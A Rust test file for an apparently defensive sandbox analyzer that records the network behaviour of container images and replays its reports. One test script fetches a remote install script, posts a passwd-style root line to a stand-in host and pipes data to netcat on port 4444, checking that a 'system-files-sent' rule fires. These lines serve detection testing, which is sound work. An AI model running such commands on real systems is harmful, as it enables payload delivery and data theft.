//! What is said to the world is told by whom, to whom and in which words; and judged again alike.

use serde_json::{Value, json};

use super::place::{Place, shell};
use crate::support::live;

fn entry<'v>(list: &'v Value, field: &str, value: &str) -> &'v Value {
    let found = list.as_array().unwrap().iter().find(|entry| entry[field] == value);
    found.unwrap_or_else(|| panic!("no {field} {value} in {list:#}"))
}

#[test]
fn what_is_said_outside_is_told_with_its_name_and_its_program_and_replays_alike() {
    if !live() {
        return;
    }
    let place = Place::new();
    let script = "wget -q -O /tmp/x http://one.example/install.sh?a=b; \
                  wget -q -O /tmp/y --post-data 'root:x:0:0:root:/root:/bin/sh' http://two.example/up; \
                  echo hello | nc three.example 4444; nslookup four.example 9.9.9.9; true";
    let said = place.analyze(&["--policy", "observe", &place.image(shell(script))]);
    let report = place.report();
    assert_eq!(report["run"]["exit"]["code"], 0, "{}", said.stderr);
    let network = &report["behaviour"]["network"];
    let request = entry(&network["http"], "host", "one.example");
    assert_eq!((&request["method"], &request["target"]), (&"GET".into(), &"/install.sh?a=b".into()));
    assert_eq!((&request["exe"], &request["count"]), (&"/bin/busybox".into(), &1.into()));
    let posted = entry(&network["http"], "host", "two.example");
    assert_eq!(posted["body"], "root:x:0:0:root:/root:/bin/sh");
    let flows = network["flows"].as_array().unwrap();
    let raw = flows.iter().find(|flow| flow["port"] == 4444).unwrap();
    assert_eq!((&raw["name"], &raw["exe"]), (&"three.example".into(), &"/bin/busybox".into()));
    assert_eq!((&raw["first"], &raw["sent"]), (&"hello\n".into(), &6.into()));
    for name in ["one.example", "two.example", "three.example", "four.example"] {
        let question = entry(&network["dns"], "name", name);
        assert_eq!((&question["count"], &question["code"]), (&1.into(), &0.into()), "{question:#}");
        assert_eq!((&question["exe"], &question["carriers"]), (&"/bin/busybox".into(), &json!(["udp"])));
    }
    for family in ["network", "dns", "http", "tls"] {
        let coverage = entry(&report["coverage"], "family", family);
        assert_eq!((&coverage["state"], &coverage["reason"]), (&"full".into(), &"".into()), "{family}");
    }
    let ids = |report: &Value| {
        let findings = report["findings"].as_array().unwrap().iter();
        findings.map(|finding| (finding["rule"].to_string(), finding["id"].to_string())).collect::<Vec<_>>()
    };
    assert!(ids(&report).iter().any(|(rule, _)| rule == "\"system-files-sent\""), "{:#?}", ids(&report));
    let again = place.call(&["replay", "--format", "json", place.path("out").to_str().unwrap()]);
    let replayed: Value = serde_json::from_str(&again.stdout).unwrap();
    assert_eq!(ids(&replayed), ids(&report));
    assert_eq!(replayed["behaviour"], report["behaviour"]);
    place.assert_clean();
}

#[test]
fn without_a_world_nobody_claims_to_have_listened() {
    if !live() {
        return;
    }
    let place = Place::new();
    let script = "nslookup one.example 127.0.0.9; wget -q -O /tmp/x http://127.0.0.1:81/x; true";
    let said = place.analyze(&["--policy", "observe", "--network", "none", &place.image(shell(script))]);
    let report = place.report();
    assert_eq!(report["run"]["exit"]["code"], 0, "{}", said.stderr);
    let state = |family: &str| entry(&report["coverage"], "family", family)["state"].clone();
    assert_eq!(["http", "tls", "dns"].map(state), ["none", "none", "partial"].map(Value::from));
    let question = entry(&report["behaviour"]["network"]["dns"], "name", "one.example");
    assert_eq!(question["code"], Value::Null, "nobody answered");
    place.assert_clean();
}
